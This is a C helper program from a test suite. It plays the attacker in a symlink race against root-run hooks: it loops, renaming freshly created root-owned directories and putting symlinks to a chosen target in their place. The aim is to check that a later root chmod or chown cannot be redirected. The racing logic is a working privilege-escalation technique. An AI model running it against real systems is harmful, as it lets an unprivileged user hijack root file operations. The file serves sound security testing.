/*
 * t_hookrace.c - an attacker's racing program for tests/mpi/run_hooks_users.sh
 * (check (b)); not an MPI program, built beside the others.
 *
 *   t_hookrace TARGET STOPFILE READYFILE DIR
 *
 * Run as an unprivileged user whose directory DIR is (<base>/cairn-<uid>),
 * it loops until STOPFILE exists (at most 10 minutes): every directory that
 * root owns inside DIR or inside one of DIR's subdirectories (a directory a
 * root hook has just made there, before it gives it away by name) is renamed
 * aside and replaced by a symlink to TARGET, so that a root chmod/chown by
 * that name would act on TARGET. It creates READYFILE once looping, and
 * prints how many swaps it made. Exit 0.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* Swap the root-owned directories directly under DFD; recurse DEPTH more levels. */
static long race(int dfd, const char *target, int depth)
{
    long swaps = 0;
    int d2 = dup(dfd);
    DIR *d = d2 >= 0 ? fdopendir(d2) : NULL;
    if (!d) {
        if (d2 >= 0)
            close(d2);
        return 0;
    }
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
        if (de->d_name[0] == '.' && (!de->d_name[1] || (de->d_name[1] == '.' && !de->d_name[2])))
            continue;
        if (strstr(de->d_name, ".swapped"))
            continue;
        struct stat st;
        if (fstatat(dfd, de->d_name, &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISDIR(st.st_mode))
            continue;
        if (st.st_uid == 0) {
            char aside[512];
            snprintf(aside, sizeof aside, "%.400s.swapped", de->d_name);
            if (renameat(dfd, de->d_name, dfd, aside) == 0 &&
                symlinkat(target, dfd, de->d_name) == 0)
                swaps++;
        } else if (depth > 0) {
            int sub = openat(dfd, de->d_name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
            if (sub >= 0) {
                swaps += race(sub, target, depth - 1);
                close(sub);
            }
        }
    }
    closedir(d);
    return swaps;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: t_hookrace TARGET STOPFILE READYFILE DIR\n");
        return 2;
    }
    const char *target = argv[1], *stop = argv[2], *ready = argv[3], *dir = argv[4];
    time_t end = time(NULL) + 600;
    long swaps = 0, loops = 0;
    int fd = open(ready, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0)
        close(fd);
    while (access(stop, F_OK) != 0 && time(NULL) < end) {
        int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
        if (dfd >= 0) {
            swaps += race(dfd, target, 2);
            close(dfd);
        }
        loops++;
    }
    printf("t_hookrace: %ld swap(s) in %ld loop(s)\n", swaps, loops);
    return 0;
}
